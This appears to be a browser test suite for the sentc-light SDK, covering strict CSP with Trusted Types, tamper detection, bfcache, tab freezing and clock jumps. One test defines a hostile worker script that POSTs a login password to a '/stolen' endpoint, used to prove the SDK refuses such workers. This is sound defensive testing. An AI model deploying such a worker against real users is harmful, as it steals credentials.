// Pages that allow next to nothing, and what browsers do to pages: a strict policy with Trusted Types, files that were
// changed, the back/forward cache, a tab that was suspended, a clock that jumps. The page and the API have one origin here.

import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { chromium } from "playwright-core";
import { FLAGS, PASSWORD, freshName, passOn, totp } from "./support.mjs";

const POLICY = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; worker-src blob:; connect-src 'self'; require-trusted-types-for 'script'";
const TOKEN = "5zMb6zs3dEM62n+FxjBilFPp+j9e7YUFA+7pi6Hi";
const FILES = new URL("../../../pkg/dist/", import.meta.url);
const hashes = JSON.parse(readFileSync(new URL("sentc-light.integrity.json", FILES), "utf8"));
const limit = { timeout: 180_000 };

const SCRIPT = `
  window.violations = [];
  addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI, sample }) => violations.push(violatedDirective + " " + blockedURI + " " + sample));
  addEventListener("pageshow", ({ persisted }) => { window.restored = persisted; });
  window.events = [];
  const sentc = window.Sentc?.default;
  window.ready = (async () => {
    if (!sentc) return "no SDK";
    sentc.on("signedOut", () => events.push("signedOut"));
    return (await sentc.init({ app_token: "${TOKEN}", base_url: location.origin }))?.data.user_id;
  })();
`;

let browser, server;

before(async () => {
  server = await serve();
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM || "/usr/bin/chromium",
    args: FLAGS,
    // Playwright turns it off; people's browsers have it.
    ignoreDefaultArgs: ["--disable-back-forward-cache"],
    timeout: 60_000,
  });
});
after(async () => {
  await browser?.close();
  server?.close();
});

/** Pages under a policy, the built files, and the API of the dev server. `changed`: a file that somebody has touched.
 *  `worker`: what a request for a worker's script gets, which browsers mark as one. */
async function serve() {
  const state = { policy: POLICY, changed: undefined, worker: undefined, calls: [] };
  const http = createServer((request, response) => {
    const { pathname } = new URL(request.url, "http://x");
    if (pathname.startsWith("/api/")) {
      state.calls.push(`${request.method} ${pathname.slice("/api/v1".length)}`);
      passOn(request, response);
      return;
    }
    const head = (type) => response.writeHead(200, { "content-type": type, "content-security-policy": state.policy });
    const page = (script) => `<!doctype html><link rel="icon" href="data:,"><title>strict</title>${script}<script src="/page.js"></script>`;
    if (pathname === "/") head("text/html").end(page(`<script src="/sentc-light.min.js" integrity="${hashes["sentc-light.min.js"]}" crossorigin="anonymous"></script>`));
    else if (pathname === "/empty") head("text/html").end(page(""));
    else if (pathname === "/page.js") head("text/javascript").end(SCRIPT);
    else if (state.worker !== undefined && request.headers["sec-fetch-dest"] === "worker") {
      state.calls.push(`worker ${pathname}`);
      head("text/javascript").end(state.worker);
    } else if (pathname === "/stolen") {
      state.calls.push("stolen");
      head("text/plain").end();
    } else if (pathname.slice(1) in hashes) {
      const bytes = readFileSync(new URL(pathname.slice(1), FILES));
      const touched = state.changed === pathname.slice(1) ? Buffer.concat([bytes, Buffer.from(pathname.endsWith(".wasm") ? [0, 2, 1, 0x78] : "\n")]) : bytes;
      head(pathname.endsWith(".wasm") ? "application/wasm" : "text/javascript").end(touched);
    } else response.writeHead(404).end();
  });
  await new Promise((resolve) => http.listen(0, "127.0.0.1", resolve));
  return Object.assign(state, { url: `http://127.0.0.1:${http.address().port}`, close: () => (http.close(), http.closeAllConnections()) });
}

/** A browser profile under this policy. */
async function withContext({ policy = POLICY, changed, worker }, work) {
  Object.assign(server, { policy, changed, worker, calls: [] });
  const context = await browser.newContext();
  context.setDefaultTimeout(30_000);
  try {
    await work(context);
  } finally {
    await context.close();
    Object.assign(server, { policy: POLICY, changed: undefined, worker: undefined });
  }
}

async function open(context, path = "/") {
  const page = await context.newPage();
  await page.goto(server.url + path);
  return page;
}

const ready = (page) => page.evaluate(() => window.ready);

/** Registers and logs in. */
async function signIn(page, name = freshName("strict")) {
  await ready(page);
  return page.evaluate(
    async ([name, password]) => {
      await Sentc.default.register(name, password);
      window.user = await Sentc.default.login(name, password, true);
      return window.user.data.user_id;
    },
    [name, PASSWORD],
  );
}

for (const [what, policy] of [
  ["as it is", POLICY],
  ["with the one policy named", `${POLICY}; trusted-types sentc-light`],
]) {
  test(`a strict policy with Trusted Types, ${what}: register, log in, MFA, groups, log out`, limit, () =>
    withContext({ policy }, async (context) => {
      const page = await open(context);
      const workers = [];
      page.on("worker", (worker) => workers.push(worker.url()));
      const name = freshName("strict");
      const id = await signIn(page, name);
      const secret = await page.evaluate(async (password) => (await window.user.registerRawOtp(password)).secret, PASSWORD);
      const seen = await page.evaluate(async ([name, password, token]) => {
        const group = await window.user.getGroup(await window.user.createGroup());
        const groups = await window.user.getGroups();
        await window.user.logOut();
        const login = await Sentc.default.login(name, password);
        window.user = await Sentc.default.mfaLogin(token, login.u);
        return { rank: group.data.rank, groups: groups.length, kind: login.kind, id: window.user.data.user_id };
      }, [name, PASSWORD, totp(secret)]);
      assert.deepEqual(seen, { rank: 0, groups: 1, kind: "mfa", id });
      // The session is there again, and goes.
      await page.reload();
      assert.equal(await ready(page), id);
      await page.evaluate(async () => (await Sentc.default.getActualUser()).logOut());
      await page.reload();
      assert.equal(await ready(page), undefined);
      // The page's own empty icon is refused too, where the browser gets to it.
      assert.deepEqual(await page.evaluate(() => window.violations.filter((what) => !what.startsWith("img-src data"))), []);
      assert.ok(workers.some((url) => url.startsWith(`blob:${server.url}/`)), "the worker has started");
    }));
}

// `'self'` would allow the file. It is not started: nobody could check what the server gives for it.
for (const refusal of ["worker-src 'none'", "worker-src 'self'"]) {
  test(`where the policy refuses workers from blob: addresses (${refusal}), the page derives`, limit, () =>
    withContext({ policy: POLICY.replace("worker-src blob:", refusal) }, async (context) => {
      const page = await open(context);
      const workers = [];
      page.on("worker", (worker) => workers.push(worker.url()));
      const warned = page.waitForEvent("console", (message) => message.type() === "warning" && message.text().includes("worker-src"));
      await signIn(page);
      assert.match((await warned).text(), /^sentc-light: worker-src blocks the worker from blob/);
      // Chromium names a worker before it refuses to run it.
      assert.deepEqual(workers.filter((url) => !url.startsWith("blob:")), []);
      assert.deepEqual(page.workers(), []);
    }));
}

test("a server that gives the right file to the check and another one to the worker gets no password", limit, async () => {
  // Answers as the worker does, and passes on what it is given.
  const worker = `onmessage = ({ data }) => {
    if ("module" in data) return postMessage({ kind: "ready" });
    fetch("/stolen", { method: "POST", body: data.password }).finally(() => postMessage({ kind: "refused", id: data.id }));
  };`;
  for (const directive of ["worker-src blob:", "worker-src 'self'", "worker-src 'self' blob:"]) {
    await withContext({ policy: POLICY.replace("worker-src blob:", directive), worker }, async (context) => {
      await signIn(await open(context));
      assert.deepEqual(server.calls.filter((call) => /worker|stolen/.test(call)), [], directive);
      assert.ok(server.calls.some((call) => call.endsWith("/verify_login_light")), server.calls.join(", "));
    });
  }
  // The pattern proves something: started from its address, that worker gets the password.
  await withContext({ policy: POLICY.replace("worker-src blob:", "worker-src 'self'"), worker }, async (context) => {
    const page = await open(context, "/empty");
    await page.evaluate(() => {
      // The page's policy wants trusted addresses.
      const policy = trustedTypes.createPolicy("sentc-light", { createScriptURL: (url) => url });
      const worker = new Worker(policy.createScriptURL("/sentc-light.worker.js"));
      worker.postMessage({ id: 1, password: new TextEncoder().encode("password"), salt: new Uint8Array(32), profile: "standard" });
      return new Promise((resolve) => (worker.onmessage = resolve));
    });
    assert.deepEqual(server.calls.filter((call) => /worker|stolen/.test(call)), ["worker /sentc-light.worker.js", "stolen"]);
  });
});

test("files that somebody has touched are not run", limit, async () => {
  await withContext({ changed: "sentc-light.min.js" }, async (context) => assert.equal(await ready(await open(context)), "no SDK"));
  await withContext({ changed: "sentc-light.wasm" }, async (context) => {
    const page = await open(context);
    assert.equal(await page.evaluate(() => window.ready.then(() => "ready", (error) => error.code)), "WASM_INVALID");
  });
  await withContext({ changed: "sentc-light.worker.js" }, async (context) => {
    const page = await open(context);
    const workers = [];
    page.on("worker", (worker) => workers.push(worker.url()));
    // The page derives by itself.
    await signIn(page);
    assert.deepEqual(workers, []);
  });
  // The pattern proves something: what the server served is what the hashes say, where nobody touched it.
  const bytes = Buffer.from(await (await fetch(`${server.url}/sentc-light.worker.js`)).arrayBuffer());
  assert.equal(`sha384-${createHash("sha384").update(bytes).digest("base64")}`, hashes["sentc-light.worker.js"]);
});

test("back to a page: its session goes on, and one that ended meanwhile does not", limit, (t) =>
  withContext({}, async (context) => {
    const page = await open(context);
    const id = await signIn(page);
    const away = () => page.goto(`${server.url}/empty`);
    const back = async () => {
      // A restored page is not loaded.
      await page.goBack({ waitUntil: "commit" });
      const found = await ready(page);
      // Restored, it still has its first answer to init; loaded again, another.
      return (await page.evaluate(() => window.restored)) ? "restored" : (found ?? "nobody");
    };
    await away();
    const first = await back();
    t.diagnostic(`the page was ${first === "restored" ? "restored" : "loaded again"}`);
    assert.ok(first === "restored" || first === id, first);
    assert.equal(await page.evaluate(async () => (await Sentc.default.getActualUser(true)).data.user_id), id);

    await away();
    const other = await open(context);
    await ready(other);
    await other.evaluate(async () => (await Sentc.default.getActualUser()).logOut());
    await back();
    const code = await page.evaluate(() => Sentc.default.getActualUser(true).then((user) => user.getGroups()).then(() => "works", (error) => error.code));
    assert.ok(["NO_USER", "SIGNED_OUT"].includes(code), code);

    // Somebody else has signed in: the page is theirs now, or nobody's.
    await signIn(page);
    await away();
    await other.reload();
    await ready(other);
    await other.evaluate(async () => (await Sentc.default.getActualUser()).logOut());
    const second = await signIn(other);
    await back();
    const now = await page.evaluate(() => Sentc.default.getActualUser(true).then(async (user) => (await user.getGroups(), user.data.user_id), (error) => error.code));
    assert.ok([second, "NO_USER", "SIGNED_OUT"].includes(now), now);
  }));

test("a suspended tab hears what it missed", limit, () =>
  withContext({}, async (context) => {
    const [page, other] = [await open(context), await open(context)];
    await signIn(page);
    const cdp = await context.newCDPSession(page);
    await cdp.send("Page.setWebLifecycleState", { state: "frozen" });
    await other.reload();
    await ready(other);
    await other.evaluate(async () => (await Sentc.default.getActualUser()).logOut());
    await cdp.send("Page.setWebLifecycleState", { state: "active" });
    const code = await page.evaluate(async () => {
      while (!window.events.includes("signedOut")) await new Promise((resolve) => setTimeout(resolve, 20));
      return window.user.getGroups().then(() => "works", (error) => error.code);
    });
    assert.equal(code, "SIGNED_OUT");
  }));

test("a clock that jumps, ahead and back: no expired JWT is sent, and the session stays", limit, () =>
  withContext({}, async (context) => {
    const page = await open(context);
    const refused = [];
    page.on("response", (response) => response.status() >= 400 && refused.push(`${response.status()} ${response.url()}`));
    await signIn(page);
    const HOUR = 3_600_000;
    for (const by of [HOUR, -HOUR, 40 * 24 * HOUR, -40 * 24 * HOUR]) {
      // The time of day alone, as when somebody sets it.
      await page.evaluate((by) => {
        window.realNow ??= Date.now.bind(Date);
        window.shift = (window.shift ?? 0) + by;
        Date.now = () => window.realNow() + window.shift;
      }, by);
      await page.evaluate(() => window.user.getGroups());
      await page.evaluate(() => window.user.getDevices());
    }
    assert.ok(server.calls.filter((call) => call === "PUT /refresh").length >= 2, server.calls.join(", "));
    assert.deepEqual(refused, []);
    assert.deepEqual(await page.evaluate(() => window.events), []);
    // A new page with a wrong clock still takes the stored session.
    const later = await context.newPage();
    await later.clock.install({ time: Date.now() + 5 * HOUR });
    await later.goto(server.url);
    assert.equal(await ready(later), await page.evaluate(() => window.user.data.user_id));
    await later.evaluate(async () => (await Sentc.default.getActualUser()).getGroups());
  }));
